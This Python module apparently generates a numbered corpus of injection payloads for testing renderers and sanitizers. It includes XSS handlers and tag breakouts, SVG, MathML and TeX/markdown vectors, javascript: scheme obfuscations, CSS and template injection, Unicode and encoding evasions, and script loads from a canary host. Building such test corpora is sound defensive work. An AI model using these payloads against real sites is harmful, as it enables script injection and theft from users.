"""Strings that run, load or disguise something wherever they are taken for more than text.

Each payload tells that it ran (`MARK`) with its own number, and loads from hosts that no proxy lets through unseen.
"""

from __future__ import annotations

from itertools import product

HOST = "canary.invalid"
LEAST = 250


def mark(number: int) -> str:
    """JavaScript that tells the outermost page, and the network, that a payload ran."""
    return f"top.postMessage(`ran`+{number},`*`);new(Image)().src=`http://{HOST}/{number}`"


BREAKOUTS = ("", '">', "'>", "</title>", "</style>", "</textarea>", "-->", "]]>", "</svg>", "</pre></details>")
HANDLERS = (
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<body onload={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe onload={js}></iframe>",
    "<marquee onstart={js}>",
    "<select autofocus onfocus={js}>",
    "<object data=x onerror={js}></object>",
    "<style onload={js}></style>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<div style="animation:x 1s" onanimationstart={js}>@keyframes x{{}}</div>',
    "<x onfocus={js} tabindex=1 id=x>",
)
SVG = (
    "<svg><script>{js}</script></svg>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><image href='http://{host}/{n}'/></svg>",
    "<svg><set attributeName=href to='javascript:{js}'/></svg>",
    "<svg><style>@import 'http://{host}/{n}';</style></svg>",
    "<svg><feImage href='http://{host}/{n}'/></svg>",
    '<svg viewBox="0 0 1 1" onload="{js}"><desc>]]><script>{js}</script></desc></svg>',
    "<math><mtext><img src=x onerror={js}></mtext></math>",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "&#106;avascript:",
    "javascript&colon;",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,",
    "blob:",
    "view-source:javascript:",
)
LINKS = ("<a href='{url}{js}'>x</a>", "<iframe src='{url}{js}'></iframe>", "[x]({url}{js})")
LOADS = (
    "<img src=http://{host}/{n}>",
    "<link rel=stylesheet href=http://{host}/{n}>",
    "<link rel=prefetch href=http://{host}/{n}>",
    "<link rel=preload as=image href=http://{host}/{n}>",
    "<link rel=dns-prefetch href=//{host}>",
    "<link rel=icon href=http://{host}/{n}>",
    "<link rel=manifest href=http://{host}/{n}>",
    "<meta http-equiv=refresh content='0;url=http://{host}/{n}'>",
    "<base href=http://{host}/>",
    "<script src=http://{host}/{n}></script>",
    "<script type=module>import 'http://{host}/{n}'</script>",
    "<iframe src=http://{host}/{n}></iframe>",
    "<embed src=http://{host}/{n}>",
    "<object data=http://{host}/{n}></object>",
    "<video poster=http://{host}/{n}></video>",
    "<img srcset='http://{host}/{n} 1x'>",
    "<picture><source srcset=http://{host}/{n}><img></picture>",
    "<input type=image src=http://{host}/{n}>",
    "<form action=http://{host}/{n}><button autofocus>x</button></form>",
    "<table background=http://{host}/{n}><tr><td>x</table>",
    "<body background=http://{host}/{n}>",
    "<track src=http://{host}/{n}>",
    "<portal src=http://{host}/{n}></portal>",
    "<frameset><frame src=http://{host}/{n}></frameset>",
    "<a ping=http://{host}/{n} href=#>x</a>",
)
CSS = (
    "<style>@import url(http://{host}/{n});</style>",
    "<style>*{{background:url(http://{host}/{n})}}</style>",
    "<style>@font-face{{font-family:x;src:url(http://{host}/{n})}}*{{font-family:x}}</style>",
    '<p style="background:url(http://{host}/{n})">x</p>',
    "<p style='list-style:url(http://{host}/{n})'>x</p>",
    '<p style="width:expression({js})">x</p>',
    '<p style="-moz-binding:url(http://{host}/{n})">x</p>',
    "<style>body{{display:none}}</style>",
    "</style><style>:root{{--paper:url(http://{host}/{n})}}</style>",
    "}} * {{ background: url(http://{host}/{n}) }} .x {{",
    "; background-image: url('http://{host}/{n}');",
    "<style>a[href^=h]{{background:url(http://{host}/{n})}}</style>",
)
MATH = (
    r"$\href{{javascript:{js}}}{{click}}$",
    r'$\href{{x}}{{y}}" onmouseover="{js}$',
    r"\(\href{{javascript:{js}}}{{x}}\)",
    r"$$\style{{background:url(http://{host}/{n})}}{{x}}$$",
    r'$\class{{x" onload="{js}}}{{y}}$',
    r'$\cssId{{x"><img src=x onerror={js}>}}{{y}}$',
    r"$\text{{</script><script>{js}</script>}}$",
    r"$\unicode{{<img src=x onerror={js}>}}$",
    r"\[\require{{html}}\href{{javascript:{js}}}{{x}}\]",
    r"$\def\x{{<img src=x onerror={js}>}}\x$",
    r"\begin{{equation}}\includegraphics{{http://{host}/{n}}}\end{{equation}}",
    r"$\url{{javascript:{js}}}$",
)
MARKDOWN = (
    "![x](http://{host}/{n})",
    '![x](http://{host}/{n} "t" onerror={js})',
    "[x]: http://{host}/{n}\n[x]",
    "<http://{host}/{n}>",
    "http://{host}/{n}",
    "[![x](http://{host}/{n})](javascript:{js})",
    "```html\n<script>{js}</script>\n```",
    "`<img src=x onerror={js}>`",
    "<details open><summary>x</summary>\n\n<script>{js}</script>\n</details>",
    "| a |\n|---|\n| <img src=x onerror={js}> |",
    "# <svg onload={js}>",
    "- [ ] <input autofocus onfocus={js}>",
    "[x](<javascript:{js}>)",
    "[^1]: <script>{js}</script>",
    "<!-- --><script>{js}</script><!-- -->",
)
TEMPLATES = (
    "{{{{7*7}}}}<script>{js}</script>",
    "{{% raw %}}<script>{js}</script>{{% endraw %}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{{{ x|safe }}}}<img src=x onerror={js}>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{alert(1)}}<svg onload={js}>",
    "<%= 7*7 %><script>{js}</script>",
    "#{{7*7}}",
    "<script type=text/template>{js}</script><script>{js}</script>",
    "<template><script>{js}</script></template>",
    "<x-y is=script>{js}</x-y>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
)
ENCODED = (
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{js}",
    "%3Cscript%3E{js}%3C/script%3E",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "<scr\x00ipt>{js}</scr\x00ipt>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "\u202e<script>{js}</script>\u202c",
    "\u2066<img src=x onerror={js}>\u2069",
    "\ud800<script>{js}</script>",
    "＜script＞{js}＜/script＞",
    "<script\x0c>{js}</script>",
    "<script/x>{js}</script>",
    "<ſcript>{js}</ſcript>",
    "<img src=x onerror\x0b={js}>",
    '<img/src="x"/onerror="{js}">',
    "\x1b]8;;http://{host}/{n}\x07<script>{js}</script>\x1b]8;;\x07",
    "\ufeff<script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='http://{host}/{n}'?><script>{js}</script>",
)


def strings() -> list[str]:
    """All payloads, each with a number of its own."""
    forms = [f"{out}<script>{{js}}</script>" for out in BREAKOUTS]
    forms += [out + handler for out, handler in product(BREAKOUTS[:4], HANDLERS)]
    forms += [link.replace("{url}", scheme) for link, scheme in product(LINKS, SCHEMES)]
    forms += [*SVG, *LOADS, *CSS, *MATH, *MARKDOWN, *TEMPLATES, *ENCODED]
    forms += [f"{out}{load}" for out, load in product(('">', "</style>"), LOADS)]
    return [form.format(js=mark(n), host=HOST, n=n) for n, form in enumerate(forms)]
